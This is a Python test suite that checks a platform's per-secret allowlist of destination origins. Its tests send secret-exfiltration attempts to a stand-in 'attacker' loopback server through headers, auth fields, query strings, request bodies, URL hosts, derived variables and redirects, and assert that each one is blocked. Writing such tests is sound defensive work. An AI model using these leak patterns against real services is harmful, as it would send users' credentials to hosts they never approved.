"""`allowed_destinations`: a secret's value goes only to the origins it names.

An action author who controls another host (here: a second loopback server, another port, so
another origin) tries to send a secret there in every way the action language allows: raw in a
header, as basic-auth credentials, URL-encoded in the query, in a JSON body, in the URL itself,
and through a redirect from the allowed origin. Each run fails before sending; the author's
server sees nothing. The allowed origin keeps working.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, RedirectResponse, Response
from starlette.routing import Route

from app.demo.loopback import LoopbackServer
from app.pipeline.wire import origin_of_url
from tests.conftest import CLIENT_SECRET, TokenServer, create_secret, setup_oauth

SECRET = "CANARYds+9x/7q=="


@dataclass
class Recorder:
    """A loopback server that records every request; `/redirect?to=URL` answers 307 to URL."""

    url: str = ""
    seen: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    async def handle(self, request: Request) -> Response:
        body = (await request.body()).decode(errors="replace")
        with self.lock:
            self.seen.append(f"{request.url} {dict(request.headers)} {body}")
        if request.url.path == "/redirect":
            return RedirectResponse(request.query_params["to"], status_code=307)
        return JSONResponse({"ok": True})


def recorder() -> Iterator[Recorder]:
    """A running recorder."""
    found = Recorder()
    app = Starlette(routes=[Route("/{path:path}", found.handle, methods=["GET", "POST"])])
    with LoopbackServer(app, lifespan="off") as server:
        found.url = server.url
        yield found


attacker = pytest.fixture(recorder)
allowed = pytest.fixture(recorder)


async def save_and_run(client: httpx.AsyncClient, action: list[dict[str, Any]]) -> httpx.Response:
    """Save `action` as the endpoint `svc/run` and run it once."""
    service = {
        "slug": "svc",
        "name": "Service",
        "endpoints": [{"readable_id": "run", "name": "Run", "enable_log": True, "action": action}],
    }
    response = await client.post("/v1/services", json=service)
    assert response.status_code == 201, response.text
    return await client.get("/api/services/svc/run")


def request_to(url: str, **node: Any) -> dict[str, Any]:
    """A `web_request` node."""
    return {"type": "web_request", "method": "POST", "url": url, "retry": {"attempts": 1}, **node}


CHANNELS: dict[str, dict[str, Any]] = {
    "raw header": {"headers": {"X-Leak": "{{ secrets.CLIENT_SECRET }}"}},
    "interpolated header": {"headers": {"X-Leak": "v1:{{ secrets.CLIENT_SECRET }}:end"}},
    "bearer": {"auth": {"type": "bearer", "token": "{{ secrets.CLIENT_SECRET }}"}},
    "basic auth": {
        "auth": {"type": "basic", "username": "me", "password": "{{ secrets.CLIENT_SECRET }}"}
    },
    "url-encoded query": {"query": {"g": "{{ secrets.CLIENT_SECRET }}"}},
    "form body": {"body": {"form": {"g": "x{{ secrets.CLIENT_SECRET }}"}}},
    "json body": {"body": {"json": {"nested": ["{{ secrets.CLIENT_SECRET }}"]}}},
    "raw body": {"body": {"raw": "<{{ secrets.CLIENT_SECRET }}>", "content_type": "text/plain"}},
}


class TestSecretsGoOnlyWhereTheyBelong:
    @pytest.mark.parametrize("channel", sorted(CHANNELS))
    async def test_sending_a_secret_elsewhere_fails_before_sending(
        self, client: httpx.AsyncClient, attacker: Recorder, allowed: Recorder, channel: str
    ) -> None:
        await create_secret(
            client,
            "CLIENT_SECRET",
            SECRET,
            environment_specific=False,
            allowed_destinations=[allowed.url],
        )

        answer = await save_and_run(client, [request_to(f"{attacker.url}/x", **CHANNELS[channel])])

        assert answer.status_code == 403, answer.text
        error = answer.json()["error"]
        assert error["type"] == "destination_not_allowed"
        assert error["secret"] == "CLIENT_SECRET" and error["destination"] == attacker.url
        assert "CLIENT_SECRET" in error["message"] and attacker.url in error["message"]
        assert attacker.seen == []
        assert SECRET not in answer.text

    @pytest.mark.parametrize(
        "url",
        ["http://{{ secrets.HOSTY }}@127.0.0.1:PORT/", "http://{{ secrets.HOSTY }}.localhost/"],
    )
    async def test_a_secret_in_the_url_authority_is_refused_before_any_lookup(
        self, client: httpx.AsyncClient, attacker: Recorder, allowed: Recorder, url: str
    ) -> None:
        hosty = "CanaryHost7"  # a host name is lower-cased on its way out; the check is not fooled
        await create_secret(
            client, "HOSTY", hosty, environment_specific=False, allowed_destinations=[allowed.url]
        )
        url = url.replace("PORT", attacker.url.rsplit(":", 1)[1])

        answer = await save_and_run(client, [request_to(url)])

        assert answer.status_code == 403, answer.text
        assert answer.json()["error"]["secret"] == "HOSTY"
        assert answer.json()["error"]["destination"] == origin_of_url(
            url.replace("{{ secrets.HOSTY }}", hosty)
        )
        assert attacker.seen == []

    async def test_a_variable_made_from_the_secret_is_refused_too(
        self, client: httpx.AsyncClient, attacker: Recorder, allowed: Recorder
    ) -> None:
        await create_secret(
            client, "CLIENT_SECRET", SECRET, environment_specific=False,
            allowed_destinations=[allowed.url],
        )  # fmt: skip
        action = [
            {"type": "update_object", "values": {"copy": "id={{ secrets.CLIENT_SECRET }}"}},
            request_to(f"{attacker.url}/{{{{ vars.copy }}}}"),
        ]

        answer = await save_and_run(client, action)

        assert answer.status_code == 403, answer.text
        assert attacker.seen == []

    async def test_the_allowed_origin_gets_it_in_every_form(
        self, client: httpx.AsyncClient, allowed: Recorder
    ) -> None:
        await create_secret(
            client, "CLIENT_SECRET", SECRET, environment_specific=False,
            allowed_destinations=[allowed.url],
        )  # fmt: skip
        action = [request_to(f"{allowed.url}/{name}", **node) for name, node in CHANNELS.items()]

        answer = await save_and_run(client, action)

        assert answer.status_code == 200, answer.text
        assert len(allowed.seen) == len(CHANNELS)

    async def test_a_redirect_to_another_origin_never_carries_it(
        self, client: httpx.AsyncClient, attacker: Recorder, allowed: Recorder
    ) -> None:
        await create_secret(
            client, "CLIENT_SECRET", SECRET, environment_specific=False,
            allowed_destinations=[allowed.url],
        )  # fmt: skip
        node = request_to(
            f"{allowed.url}/redirect",
            query={"to": f"{attacker.url}/landing"},
            headers={"X-Key": "{{ secrets.CLIENT_SECRET }}"},
            follow_redirects=True,
        )

        answer = await save_and_run(client, [node])

        assert answer.status_code == 403, answer.text
        assert answer.json()["error"]["destination"] == attacker.url
        assert len(allowed.seen) == 1 and attacker.seen == []

    async def test_a_try_node_cannot_catch_the_refusal(
        self, client: httpx.AsyncClient, attacker: Recorder, allowed: Recorder
    ) -> None:
        await create_secret(
            client, "CLIENT_SECRET", SECRET, environment_specific=False,
            allowed_destinations=[allowed.url],
        )  # fmt: skip
        leak = request_to(attacker.url, headers={"X-Leak": "{{ secrets.CLIENT_SECRET }}"})
        action = [
            {"type": "try", "do": [leak], "catch": [{"type": "end_execution", "response": 1}]}
        ]

        answer = await save_and_run(client, action)

        assert answer.status_code == 403, answer.text
        assert attacker.seen == []

    async def test_a_secret_without_the_list_goes_anywhere_with_a_warning_on_save(
        self, client: httpx.AsyncClient, attacker: Recorder
    ) -> None:
        created = await client.post(
            "/v1/secrets",
            json={"name": "CLIENT_SECRET", "value": SECRET, "environment_specific": False},
        )
        assert created.status_code == 201, created.text
        assert created.json()["allowed_destinations"] is None
        assert "allowed_destinations" in created.json()["warnings"][0]

        answer = await save_and_run(
            client, [request_to(attacker.url, headers={"X-Key": "{{ secrets.CLIENT_SECRET }}"})]
        )

        assert answer.status_code == 200, answer.text
        assert len(attacker.seen) == 1

    async def test_the_canonical_refresh_works_with_its_token_url_allowed(
        self, client: httpx.AsyncClient, token_server: TokenServer
    ) -> None:
        await setup_oauth(client, token_server)
        patch = {"allowed_destinations": [token_server.url]}
        for name in ("CLIENT_ID", "CLIENT_SECRET", "REFRESH_TOKEN"):
            response = await client.patch(f"/v1/secrets/{name}", json=patch)
            assert response.status_code == 200, response.text
            assert response.json()["warnings"] == []

        answer = await client.get("/refresh/ACCESS_TOKEN")

        assert answer.status_code == 200, answer.text
        assert CLIENT_SECRET not in answer.text


class TestTheField:
    @pytest.mark.parametrize(
        "origin",
        [
            "https://github.com/login",
            "https://github.com?x=1",
            "ftp://github.com",
            "github.com",
            "https://user:pw@github.com",
            "https://github.com:99999",
        ],
    )
    async def test_anything_but_an_origin_is_refused_naming_the_field(
        self, client: httpx.AsyncClient, origin: str
    ) -> None:
        body = {"name": "CLIENT_SECRET", "allowed_destinations": [origin]}
        created = await client.post("/v1/secrets", json=body)
        await create_secret(client, "OTHER")
        patched = await client.patch("/v1/secrets/OTHER", json={"allowed_destinations": [origin]})

        for response in (created, patched):
            assert response.status_code == 422, response.text
            assert "allowed_destinations" in response.text
            assert response.json()["error"]["type"] == "validation_error"

    async def test_origins_are_normalized_and_null_clears_them(
        self, client: httpx.AsyncClient
    ) -> None:
        origins = ["HTTPS://GitHub.com:443/", "http://127.0.0.1:8080", "https://github.com"]
        created = await client.post(
            "/v1/secrets", json={"name": "CLIENT_SECRET", "allowed_destinations": origins}
        )
        assert created.status_code == 201, created.text
        assert created.json()["allowed_destinations"] == [
            "https://github.com",
            "http://127.0.0.1:8080",
        ]
        assert created.json()["warnings"] == []

        cleared = await client.patch(
            "/v1/secrets/CLIENT_SECRET", json={"allowed_destinations": None}
        )
        assert cleared.status_code == 200, cleared.text
        assert cleared.json()["allowed_destinations"] is None
        assert cleared.json()["warnings"]
        shown = await client.get("/v1/secrets/CLIENT_SECRET")
        assert shown.json()["allowed_destinations"] is None


class TestPresetsAndConfiguration:
    async def test_a_preset_allows_its_token_endpoint_for_the_credentials_it_sends(
        self, client: httpx.AsyncClient, token_server: TokenServer, attacker: Recorder
    ) -> None:
        await setup_oauth(client, token_server)
        response = await client.patch(
            "/v1/secrets/CLIENT_ID", json={"allowed_destinations": ["https://example.com"]}
        )
        assert response.status_code == 200, response.text
        params = {
            "token_url": token_server.token_url,
            "client_id_secret": "CLIENT_ID",
            "client_secret_secret": "CLIENT_SECRET",
            "refresh_token_secret": "REFRESH_TOKEN",
        }
        body = {"preset": "oauth2_refresh_token", "params": params}
        response = await client.post("/v1/secrets/ACCESS_TOKEN/refresher", json=body)
        assert response.status_code == 200, response.text

        allowed = {
            name: (await client.get(f"/v1/secrets/{name}")).json()["allowed_destinations"]
            for name in ("CLIENT_ID", "CLIENT_SECRET", "REFRESH_TOKEN", "ACCESS_TOKEN")
        }
        assert allowed == {
            "CLIENT_ID": ["https://example.com", token_server.url],
            "CLIENT_SECRET": [token_server.url],
            "REFRESH_TOKEN": [token_server.url],
            "ACCESS_TOKEN": None,  # its value goes to the APIs it is for
        }
        assert (await client.get("/refresh/ACCESS_TOKEN")).status_code == 200
        leak = request_to(attacker.url, body={"json": {"t": "{{ secrets.REFRESH_TOKEN }}"}})
        assert (await save_and_run(client, [leak])).status_code == 403
        assert attacker.seen == []

    async def test_config_as_code_sets_exports_and_keeps_the_list(
        self, app: Any, client: httpx.AsyncClient
    ) -> None:
        from app.configuration.export import export_document

        document = (
            "version: 1\nsecrets:\n"
            "  - name: LISTED\n    allowed_destinations: ['https://GitHub.com/']\n"
            "  - name: UNLISTED\n"
        )
        headers = {"content-type": "application/yaml"}
        applied = await client.post("/v1/apply", content=document.encode(), headers=headers)
        assert applied.status_code == 200, applied.text
        warnings = applied.json()["warnings"]
        assert any("UNLISTED" in w and "allowed_destinations" in w for w in warnings)
        assert not any("secret LISTED:" in w for w in warnings)
        listed = (await client.get("/v1/secrets/LISTED")).json()
        assert listed["allowed_destinations"] == ["https://github.com"]

        async with app.state.session_factory() as session:
            exported = await export_document(session, app.state.settings)
        by_name = {entry["name"]: entry for entry in exported["secrets"]}
        assert by_name["LISTED"]["allowed_destinations"] == ["https://github.com"]
        assert "allowed_destinations" not in by_name["UNLISTED"]

        again = await client.post("/v1/apply", content=document.encode(), headers=headers)
        assert again.json()["applied"] is False

        bad = document.replace("https://GitHub.com/", "https://github.com/login")
        refused = await client.post("/v1/apply", content=bad.encode(), headers=headers)
        assert refused.status_code == 422, refused.text
        assert "allowed_destinations" in refused.text
